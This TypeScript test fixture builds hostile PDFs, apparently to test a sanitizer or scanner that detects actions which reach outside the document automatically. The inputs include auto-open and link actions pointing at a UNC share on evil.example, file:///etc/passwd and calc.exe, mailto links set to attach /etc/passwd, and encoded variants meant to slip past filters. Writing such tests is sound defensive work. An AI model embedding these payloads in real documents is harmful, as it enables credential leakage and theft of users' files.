/** PDFs that lead to files and pages by themselves, each with what does. */
import { pdf, streamOf } from '../documents';
import type { Hostile } from './pdfs';

const SHARE = '(\\\\\\\\evil.example\\\\share\\\\x.pdf)';
const PAGE = '<< /S /URI /URI (https://evil.example) >>';
const opening = (action: string): Buffer => pdf(`/OpenAction << ${action} >>`);
const linked = (action: string): Buffer =>
  pdf('', undefined, [], `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`);

/** Ways to name a file. */
const FILES = [
  ...[SHARE, `<< /F ${SHARE} >>`, `<< /UF ${SHARE} >>`, `<< /DOS ${SHARE} >>`, `<< /#44OS ${SHARE} >>`],
  ...['<< /Unix (/etc/x.pdf) >>', '<< /Mac (x) >>', `<< /FS /URL /DOS (http://evil.example) >>`],
  ...['<< /FS /URL >>', '<< >>', '99 0 R'],
];

export const hostileElsewherePdfs: Hostile[] = [
  ...FILES.flatMap((file): Hostile[] => [
    [`a thread in the file ${file}`, opening(`/S /Thread /D 0 /F ${file}`)],
    [`a place in the file ${file}`, linked(`/S /GoTo /D [0 /Fit] /F ${file}`)],
    [`an action of no kind in the file ${file}`, linked(`/D [0 /Fit] /F ${file}`)],
    [`a stream in the file ${file}`, pdf('', undefined, [streamOf(`/F ${file}`, '')])],
  ]),
  ...FILES.filter((file) => /<<.*(\(|URL)/.test(file)).map((file): Hostile => [
    `the name of a file under any key, ${file}`,
    pdf(`/Anything ${file}`),
  ]),
  ['the name of a file in another object', pdf('/Anything << /DOS 4 0 R >>', undefined, ['(x)'])],
  ['a profile of colours from the web', pdf('/OutputIntents [<< /DestOutputProfileRef << /URLs [] >> >>]')],
  ['a page that is opened with it', opening('/S /URI /URI (https://evil.example)')],
  ['a page that is opened with it, in another object', pdf('/OpenAction 4 0 R', undefined, [PAGE])],
  ['a page that is opened after something else', opening(`/S /GoTo /D [3 0 R /Fit] /Next [${PAGE}]`)],
  [
    'a page that is opened after much else',
    pdf('/OpenAction 4 0 R', undefined, ['<< /S /GoTo /Next [5 0 R] >>', '<< /S /GoTo /Next 6 0 R >>', PAGE]),
  ],
  ['a page that is opened when a page is turned', pdf('', undefined, [], `/AA << /O ${PAGE} >>`)],
  ['a page that is opened when it is closed', pdf('/AA 4 0 R', undefined, [`<< /WC 5 0 R >>`, PAGE])],
  ['a link that is written as a name', linked('/S /URI /URI /file:#2f#2f#2fetc')],
  ...[
    'mailto:a@example.com?attach=C:\\\\\\\\secret.txt',
    'mailto:a@example.com?subject=x&Attachment=/etc/passwd',
    'mailto:a@example.com?%61ttach=/etc/passwd',
    '/C:/Windows/System32/calc.exe',
    '/C|/Windows/System32/calc.exe',
    '%5c%5cevil.example%5cshare',
    '%255c%255cevil.example%255cshare',
    '%25252525255c%25252525255cevil.example',
    '%2f%2fevil.example/share',
    'file%3a///etc/passwd',
  ].map((target): Hostile => [`a link to ${target}`, linked(`/S /URI /URI (${target})`)]),
];
